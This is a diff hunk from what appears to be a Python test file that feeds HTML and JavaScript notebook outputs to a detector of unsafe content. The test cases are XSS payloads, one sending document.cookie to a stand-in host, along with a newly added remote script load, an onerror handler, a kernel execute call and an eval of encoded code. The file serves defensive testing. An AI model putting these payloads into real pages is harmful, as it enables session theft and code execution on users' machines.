@@ -14,6 +14,7 @@ from samples import found_by
     "output",
     [
         html("<script>fetch('https://x/?c=' + document.cookie)</script>"),
+        html("<script src='http://127.0.0.1:9/x.js'></script>"),
         html("<img src=x onerror=alert(1)>"),
         html("IPython.notebook.kernel.execute('import os')", "application/javascript"),
         html("<script>eval(atob('YQ=='))</script>"),
